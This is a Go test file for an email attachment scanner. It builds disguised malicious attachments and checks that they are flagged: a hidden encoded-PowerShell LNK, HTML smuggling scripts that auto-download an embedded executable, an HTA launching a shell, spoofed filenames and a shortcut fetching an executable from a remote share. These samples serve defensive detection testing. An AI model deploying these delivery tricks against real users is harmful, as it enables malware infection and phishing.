package attach

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"strings"
	"testing"

	"github.com/mailguard/mailguard/reason"
)

// mkLNK builds a shell link with a LinkInfo local path and string data.
func mkLNK(target, args, workdir, icon string) []byte {
	b := make([]byte, 0x4C)
	binary.LittleEndian.PutUint32(b, 0x4C)
	copy(b[4:], lnkCLSID)
	flags := uint32(lnkHasLinkInfo | lnkHasArguments | lnkHasWorkingDir | lnkHasIcon | lnkIsUnicode)
	binary.LittleEndian.PutUint32(b[0x14:], flags)
	// LinkInfo: header 0x1C, VolumeIDAndLocalBasePath flag, local base path.
	li := make([]byte, 0x1C)
	binary.LittleEndian.PutUint32(li[4:], 0x1C)
	binary.LittleEndian.PutUint32(li[8:], 1)
	binary.LittleEndian.PutUint32(li[0x0C:], 0x1C) // VolumeID offset
	vol := make([]byte, 0x11)
	binary.LittleEndian.PutUint32(vol, 0x11)
	li = append(li, vol...)
	binary.LittleEndian.PutUint32(li[0x10:], uint32(len(li)))
	li = append(li, target+"\x00"...)
	binary.LittleEndian.PutUint32(li[0x18:], uint32(len(li)))
	li = append(li, 0)
	binary.LittleEndian.PutUint32(li, uint32(len(li)))
	b = append(b, li...)
	for _, s := range []string{workdir, args, icon} {
		u := []rune(s)
		b = binary.LittleEndian.AppendUint16(b, uint16(len(u)))
		for _, r := range u {
			b = binary.LittleEndian.AppendUint16(b, uint16(r))
		}
	}
	return append(b, 0, 0, 0, 0)
}

func TestParseLNK(t *testing.T) {
	raw := mkLNK(`C:\Windows\System32\cmd.exe`, `/c powershell -w hidden -enc SQBFAFgA`, `%TEMP%`, `C:\Windows\System32\shell32.dll`)
	li, err := ParseLNK(raw)
	if err != nil {
		t.Fatal(err)
	}
	if li.Target != `C:\Windows\System32\cmd.exe` || !strings.Contains(li.Arguments, "-enc") || li.WorkingDir != "%TEMP%" || !strings.HasSuffix(li.IconLocation, "shell32.dll") {
		t.Errorf("%+v", li)
	}
	for n := 0; n < len(raw); n++ {
		ParseLNK(raw[:n]) // must not panic on truncation
	}
	res := walk(t, mkMessage("x", attachment("report.pdf.lnk", "application/octet-stream", raw)), Options{})
	f := file(t, res, "report.pdf.lnk")
	if f.Type != typeLNK || f.Features.LNK == nil || f.Features.LNK.Target == "" {
		t.Errorf("type %q lnk %+v", f.Type, f.Features.LNK)
	}
	wantTag(t, f.Findings, reason.ExecAttachment)
	wantTag(t, f.Findings, reason.DoubleExtension)
	wantNoTag(t, f.Findings, reason.LNKInContainer)
}

func FuzzParseLNK(f *testing.F) {
	f.Add(mkLNK(`C:\a.exe`, "x", "y", "z"))
	f.Fuzz(func(t *testing.T, b []byte) {
		li, _ := ParseLNK(b)
		if len(li.Arguments) > 4*maxLNKString {
			t.Fatalf("arguments of %d bytes", len(li.Arguments))
		}
	})
}

func mkOneNote(payloads ...[]byte) []byte {
	b := []byte{0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3}
	b = append(b, make([]byte, 1000)...)
	for _, p := range payloads {
		b = append(b, oneFileDataHeader...)
		b = binary.LittleEndian.AppendUint64(b, uint64(len(p)))
		b = append(b, make([]byte, 12)...)
		b = append(b, p...)
		for len(b)%8 != 0 {
			b = append(b, 0)
		}
		b = append(b, oneFileDataFooter...)
		b = append(b, make([]byte, 100)...)
	}
	return b
}

func TestOneNote(t *testing.T) {
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), make([]byte, 50)...)
	hta := []byte("<html><script language=vbscript>CreateObject(\"WScript.Shell\").Run \"calc\"</script></html>")
	one := mkOneNote(png, minimalPE(), hta)
	res := walk(t, mkMessage("x", attachment("notes.one", "application/onenote", one)), Options{})
	f := file(t, res, "notes.one")
	if f.Type != typeOneNote {
		t.Errorf("type %q", f.Type)
	}
	wantTag(t, f.Findings, reason.OneNoteEmbeddedFile)
	if f.Features.OneNote != 3 {
		t.Errorf("embedded %d", f.Features.OneNote)
	}
	exe := file(t, res, "notes.one/embedded-2")
	wantTag(t, exe.Findings, reason.ExecAttachment)
	// Pictures alone are not suspicious.
	res = walk(t, mkMessage("x", attachment("pics.one", "application/onenote", mkOneNote(png))), Options{})
	wantNoTag(t, file(t, res, "pics.one").Findings, reason.OneNoteEmbeddedFile)
}

func tnefAttr(level byte, id uint32, data []byte) []byte {
	b := []byte{level}
	b = binary.LittleEndian.AppendUint32(b, id)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	b = append(b, data...)
	var sum uint16
	for _, c := range data {
		sum += uint16(c)
	}
	return binary.LittleEndian.AppendUint16(b, sum)
}

func TestTNEF(t *testing.T) {
	b := binary.LittleEndian.AppendUint32(nil, tnefSignature)
	b = append(b, 1, 0)
	b = append(b, tnefAttr(1, 0x00089006, []byte{1, 0, 0, 0})...)
	b = append(b, tnefAttr(2, 0x00069002, make([]byte, 14))...)
	b = append(b, tnefAttr(2, 0x00018010, []byte("SETUP~1.EXE\x00"))...)
	b = append(b, tnefAttr(2, 0x0006800F, minimalPE())...)
	// attAttachment with PR_ATTACH_LONG_FILENAME (PT_STRING8).
	props := binary.LittleEndian.AppendUint32(nil, 1)
	props = append(props, 0x1E, 0x00, 0x07, 0x37)
	props = binary.LittleEndian.AppendUint32(props, 1)
	name := "setup-invoice.exe\x00"
	props = binary.LittleEndian.AppendUint32(props, uint32(len(name)))
	props = append(props, name...)
	for len(props)%4 != 0 {
		props = append(props, 0)
	}
	b = append(b, tnefAttr(2, 0x00069005, props)...)
	res := walk(t, mkMessage("x", attachment("winmail.dat", "application/ms-tnef", b)), Options{})
	f := file(t, res, "winmail.dat")
	if f.Type != typeTNEF {
		t.Errorf("type %q", f.Type)
	}
	exe := file(t, res, "winmail.dat/setup-invoice.exe")
	wantTag(t, exe.Findings, reason.ExecAttachment)
	for n := 0; n < len(b); n += 7 {
		ParseTNEF(b[:n]) // no panic on truncation
	}
}

func TestHTMLSmuggling(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString(append(minimalPE(), bytes.Repeat([]byte{0x90}, 6000)...))
	shapes := map[string]string{
		"blob+createObjectURL": `<html><body><script>
var b = atob("` + payload + `"); var a = new Uint8Array(b.length); for (var i=0;i<b.length;i++) a[i]=b.charCodeAt(i);
var blob = new Blob([a], {type: 'application/octet-stream'}); var url = window.URL.createObjectURL(blob);
var l = document.createElement('a'); l.href = url; l.download = 'invoice.iso'; document.body.appendChild(l); l.click();
</script></body></html>`,
		"msSaveOrOpenBlob": `<script>var d=atob('` + payload + `');var blob=new Blob([d]);window.navigator.msSaveOrOpenBlob(blob,'doc.zip');</script>`,
		"data URI exe":     `<a href="data:application/octet-stream;base64,` + payload + `" download="report.exe">Download</a>`,
		"setAttribute":     `<script>var x = new window.Blob([bytes],{type:"application/zip"});var e=document.createElement("a");e.setAttribute("download","a.zip");e.href=URL["createObjectURL"](x);e.click()</script>`,
	}
	for name, doc := range shapes {
		t.Run(name, func(t *testing.T) {
			res := walk(t, mkMessage("x", attachment("invoice.html", "text/html", []byte(doc))), Options{})
			f := file(t, res, "invoice.html")
			wantTag(t, f.Findings, reason.HTMLSmuggling)
		})
	}
	t.Run("in body", func(t *testing.T) {
		raw := mkMessage("x", part{header: "Content-Type: text/html; charset=utf-8\r\n", body: shapes["blob+createObjectURL"]})
		wantTag(t, walk(t, raw, Options{}).Findings, reason.HTMLSmuggling)
	})
	t.Run("payload extracted", func(t *testing.T) {
		res := walk(t, mkMessage("x", attachment("i.html", "text/html", []byte(shapes["data URI exe"]))), Options{})
		wantTag(t, file(t, res, "i.html/embedded-1.bin").Findings, reason.ExecAttachment)
	})
	t.Run("benign", func(t *testing.T) {
		benign := `<html><body><p>Hello</p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="><a href="https://example.com/x.pdf" download>pdf</a></body></html>`
		res := walk(t, mkMessage("x", attachment("ok.html", "text/html", []byte(benign))), Options{})
		wantNoTag(t, file(t, res, "ok.html").Findings, reason.HTMLSmuggling)
	})
}

func TestRTFObject(t *testing.T) {
	pkg := ole10Native("clam.exe", minimalPE())[4:]
	var obj []byte
	obj = binary.LittleEndian.AppendUint32(obj, 0x0501)
	obj = binary.LittleEndian.AppendUint32(obj, 2)
	for _, s := range []string{"Package\x00", "\x00", "\x00"} {
		obj = binary.LittleEndian.AppendUint32(obj, uint32(len(s)))
		obj = append(obj, s...)
	}
	obj = binary.LittleEndian.AppendUint32(obj, uint32(len(pkg)))
	obj = append(obj, pkg...)
	var hexs strings.Builder
	for i, c := range obj {
		if i%32 == 0 {
			hexs.WriteString("\r\n")
		}
		hexs.WriteString(strings.ToLower(string("0123456789ABCDEF"[c>>4]) + string("0123456789ABCDEF"[c&15])))
	}
	doc := `{\rtf1\ansi{\object\objemb{\*\objclass Package}{\*\objdata ` + hexs.String() + `}}}`
	res := walk(t, mkMessage("x", attachment("a.rtf", "application/rtf", []byte(doc))), Options{})
	wantTag(t, file(t, res, "a.rtf/clam.exe").Findings, reason.ExecAttachment)
}

func TestNameChecks(t *testing.T) {
	cases := []struct {
		name string
		tags []reason.Tag
	}{
		{"invoice.pdf.exe", []reason.Tag{reason.DoubleExtension}},
		{"report.docx      .scr", []reason.Tag{reason.DoubleExtension}},
		{"photo\u202egpj.exe", []reason.Tag{reason.RTLOFilename}},
		{"a\u200bb.txt", []reason.Tag{reason.RTLOFilename}},
		{"../../etc/passwd", []reason.Tag{reason.PathTraversal}},
		{`C:\Windows\evil.dll`, []reason.Tag{reason.PathTraversal}},
		{"/abs/path.txt", []reason.Tag{reason.PathTraversal}},
		{"normal.exe", nil},
		{"archive.tar.gz", nil},
		{"v1.2.exe", nil},
	}
	for _, c := range cases {
		got := nameFindings(c.name, "p")
		var tags []reason.Tag
		for _, g := range got {
			tags = append(tags, g.Tag)
		}
		if len(tags) != len(c.tags) || (len(tags) > 0 && tags[0] != c.tags[0]) {
			t.Errorf("nameFindings(%q) = %v, want %v", c.name, tags, c.tags)
		}
	}
	if p := sanitizePath("a\u202eb/c\x00d"); p != `a\u202Eb/c\u0000d` {
		t.Errorf("sanitizePath = %q", p)
	}
}

func TestScriptAndImageTypes(t *testing.T) {
	cases := map[string]string{
		"a.js":  "var s = new ActiveXObject('WScript.Shell');",
		"a.vbs": "Set s = CreateObject(\"WScript.Shell\")",
		"a.ps1": "Invoke-WebRequest http://x",
		"a.bat": "@echo off\r\nstart calc",
		"a.hta": "<html><script>x</script></html>",
		"a.wsf": "<job><script language=\"JScript\">x</script></job>",
	}
	for name, body := range cases {
		res := walk(t, mkMessage("x", attachment(name, "text/plain", []byte(body))), Options{})
		f := file(t, res, name)
		wantTag(t, f.Findings, reason.ExecAttachment)
		if !strings.HasPrefix(f.Features.Executable, "script:") {
			t.Errorf("%s: executable %q type %q", name, f.Features.Executable, f.Type)
		}
	}
	iso := make([]byte, 0x9000)
	copy(iso[0x8001:], "CD001")
	vhdx := append([]byte("vhdxfile"), make([]byte, 1000)...)
	vhd := append(make([]byte, 1024), append([]byte("conectix"), make([]byte, 504)...)...)
	udf := make([]byte, 0x9800)
	copy(udf[0x8001:], "BEA01")
	copy(udf[0x8801:], "NSR02")
	for want, b := range map[string][]byte{typeISO: iso, typeVHDX: vhdx, typeVHD: vhd, typeUDF: udf} {
		if got := detectType(b[:min(len(b), sniffBytes)], b[len(b)-512:], "x.bin"); got != want {
			t.Errorf("detectType = %q, want %q", got, want)
		}
	}
}

// TestLaunchers: files that run or fetch code when opened, whatever their
// text says, are executables; a compiled help file is one by content.
func TestLaunchers(t *testing.T) {
	for _, name := range []string{"請求書.url", "shared.search-ms", "conn.rdp", "x.library-ms", "console.msc", "q.iqy", "app.appinstaller", "setup.msix", "INVOICE.URL", "doc.url "} {
		res := walk(t, mkMessage("x", attachment(name, "application/octet-stream", []byte("[InternetShortcut]\r\nURL=file://198.51.100.1/share/x.exe\r\n"))), Options{})
		f := file(t, res, name)
		if !strings.HasPrefix(f.Features.Executable, "launcher:") {
			t.Errorf("%s: executable %q", name, f.Features.Executable)
		}
		wantTag(t, f.Findings, reason.ExecAttachment)
	}
	chm := append([]byte("ITSF\x03\x00\x00\x00\x60\x00\x00\x00\x01\x00\x00\x00"), make([]byte, 200)...)
	res := walk(t, mkMessage("x", attachment("manual.bin", "application/octet-stream", chm)), Options{})
	if f := file(t, res, "manual.bin"); f.Features.Executable != "chm" {
		t.Errorf("chm: type %q executable %q", f.Type, f.Features.Executable)
	}
	for _, name := range []string{"notes.txt", "report.pdf", "example.com.txt"} {
		res := walk(t, mkMessage("x", attachment(name, "application/octet-stream", []byte("plain words\r\n"))), Options{})
		if f := file(t, res, name); f.Features.Executable != "" {
			t.Errorf("%s: executable %q", name, f.Features.Executable)
		}
	}
}
